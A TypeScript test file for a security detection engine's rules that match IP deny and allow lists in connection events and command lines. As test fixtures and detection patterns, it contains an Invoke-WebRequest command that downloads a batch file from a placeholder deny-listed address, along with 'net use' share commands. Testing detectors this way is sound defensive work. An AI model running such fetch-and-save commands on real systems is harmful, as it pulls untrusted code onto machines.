import { describe, expect, it } from "vitest";
import { compileRuleSet } from "../../../../worker/detect/compile-rule-set.ts";
import { createEventView } from "../../../../worker/detect/event-view.ts";
import { compileSimpleRules } from "../../../../worker/detect/simple/compile.ts";
import type { NormalisedEvent } from "../../../../worker/model/event.ts";
import { LOGSOURCES } from "../../../../worker/rules/logsources.ts";
import { FIELD_MAP } from "../../../../worker/sources/field-map.ts";
import { syntheticEvent } from "../support/synthetic-event.ts";

const LISTS = { deny_ips: ["203.0.113.0/24", "2001:db8::1"], file_servers: ["10.20.0.10"] };

function compile(text: string, placeholders: Record<string, string[]> = LISTS) {
  return compileSimpleRules({ origin: "rules/simple.txt", kind: "simple", text }, placeholders);
}

function fires(text: string, event: NormalisedEvent): boolean {
  const { detections, errors } = compile(text);
  expect(errors).toEqual([]);
  return detections.some((detection) => detection.test(createEventView(event, FIELD_MAP)));
}

const connection = (srcIp: string, dstIp: string) => ({ ...syntheticEvent(0), srcIp, dstIp });
const commandLine = (text: string) => syntheticEvent(0, { CommandLine: text });

describe("@list pieces in simple rules", () => {
  it("matches an event whose source or destination address is in the list, IPv4 CIDR or IPv6", () => {
    expect(fires("- '@list:deny_ips'", connection("10.0.0.5", "203.0.113.77"))).toBe(true);
    expect(fires("- '@list:deny_ips'", connection("2001:db8::1", "10.0.0.5"))).toBe(true);
    expect(fires("- '@list:deny_ips'", connection("10.0.0.5", "198.51.100.7"))).toBe(false);
  });

  it("finds IPv4 addresses written in the detail text, together with string pieces", () => {
    const rule = "- 'invoke-webrequest*@list:deny_ips'";
    expect(fires(rule, commandLine("Invoke-WebRequest http://203.0.113.9:8000/a.bat -OutFile a.bat"))).toBe(true);
    expect(fires(rule, commandLine("Invoke-WebRequest http://198.51.100.9/a.bat"))).toBe(false);
    expect(fires("- 'copy*@list:deny_ips'", commandLine("copy x \\\\1203.0.113.90\\share"))).toBe(false);
  });

  it("says, for coverage, that a rule of list pieces alone needs only an address and any other the detail text", () => {
    const reads = (text: string) => compile(text).detections.map((detection) => detection.reads);
    expect(reads("- '@list:deny_ips'")).toEqual(["addresses"]);
    expect(reads("- '@list:deny_ips%@list:file_servers'")).toEqual(["addresses"]);
    expect(reads("- 'invoke-webrequest*@list:deny_ips'")).toEqual(["detail_text"]);
    expect(reads("- 'net*use%@list:file_servers'")).toEqual(["detail_text"]);
  });

  it("keeps what each simple rule reads in the compiled rule set, beside the routes of every rule", () => {
    const sigma = `title: Whoami\nid: 5b0e2a4c-0000-4000-8000-000000000001\nlogsource: {product: windows, category: process_creation}\ndetection:\n  selection:\n    Image|endswith: '\\\\whoami.exe'\n  condition: selection\n`;
    const ruleSet = compileRuleSet(
      [
        { origin: "rules/simple.txt", kind: "simple", text: "- '@list:deny_ips'\n- 'whoami*/priv'" },
        { origin: "rules/whoami.yml", kind: "sigma", text: sigma },
      ],
      { logsources: LOGSOURCES, fieldMap: FIELD_MAP, placeholders: LISTS },
    );
    expect(ruleSet.errors).toEqual([]);
    const simple = ruleSet.rules.filter((rule) => rule.kind === "simple").map((rule) => rule.id);
    expect([...ruleSet.simpleReads]).toEqual([
      [simple[0], "addresses"],
      [simple[1], "detail_text"],
    ]);
    expect(ruleSet.simpleReads.has("5b0e2a4c-0000-4000-8000-000000000001")).toBe(false);
  });

  it("lets an allow list after '%' veto the match", () => {
    const rule = "- 'net*use%@list:file_servers'";
    expect(fires(rule, commandLine("net use \\\\10.20.0.10\\share"))).toBe(false);
    expect(fires(rule, commandLine("net use \\\\10.20.0.99\\share"))).toBe(true);
  });

  it("reports an undefined list, a bad entry and a bad list name at their line", () => {
    const { errors } = compile("- '@list:nope'\n- '@list:bad'\n- '@list:no-dash'", { bad: ["10.0.0.300"] });
    expect(errors.map((error) => [error.line, error.reason])).toEqual([
      [1, "pattern '@list:nope': IP list 'nope' is not defined"],
      [2, "pattern '@list:bad': IP list 'bad' holds '10.0.0.300', which is not an IP address or CIDR network"],
      [3, expect.stringContaining("'@list:no-dash' before '%' does not name an IP list")],
    ]);
  });

  it("matches nothing with an empty list", () => {
    const { detections, errors } = compile("- '@list:deny_ips'", { deny_ips: [] });
    expect(errors).toEqual([]);
    expect(detections[0]?.test(createEventView(connection("203.0.113.1", "203.0.113.2"), FIELD_MAP))).toBe(false);
  });
});
